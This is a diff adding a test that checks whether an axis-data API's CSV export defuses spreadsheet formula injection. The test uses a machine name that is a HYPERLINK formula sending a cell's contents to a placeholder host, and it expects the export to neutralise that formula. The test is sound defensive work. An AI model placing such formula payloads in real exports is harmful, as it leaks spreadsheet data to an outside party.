@@ -336,6 +336,26 @@ describe("GET and POST /api/axis-data/", () => {
     });
   });
 
+  it("exports names a spreadsheet would run as formulas as text, and negative numbers as numbers", async () => {
+    const name = '=HYPERLINK("http://x/?"&A2,"open")';
+    const { machine, axes } = await machineWithAxes(["X"], { machine_name: name });
+    const from = freshDay();
+    await t.services.partitions.ensure([from]);
+    await t.database.db.query(
+      `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
+                              acceleration, velocity)
+       values ($1, $2, -12.5, -1, true, -3, -4)`,
+      [axes.X!.axis_id, iso(from)],
+    );
+    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + minute)}`;
+    expect((await rows(query))[0]).toMatchObject({ machine_name: name, actual_position: -12.5 });
+    for (const extra of ["", "&max_points=100"]) {
+      const [header, record] = parseCsv((await get(`${query}${extra}&format=csv`)).body);
+      const cell = Object.fromEntries(header!.map((column, i) => [column, record![i]]));
+      expect(cell).toMatchObject({ machine_name: `'${name}`, actual_position: "-12.5" });
+    }
+  });
+
   it("an empty window is 200 [] (and a CSV of only its header)", async () => {
     const { machine } = await machineWithAxes(["X"]);
     const from = freshDay();
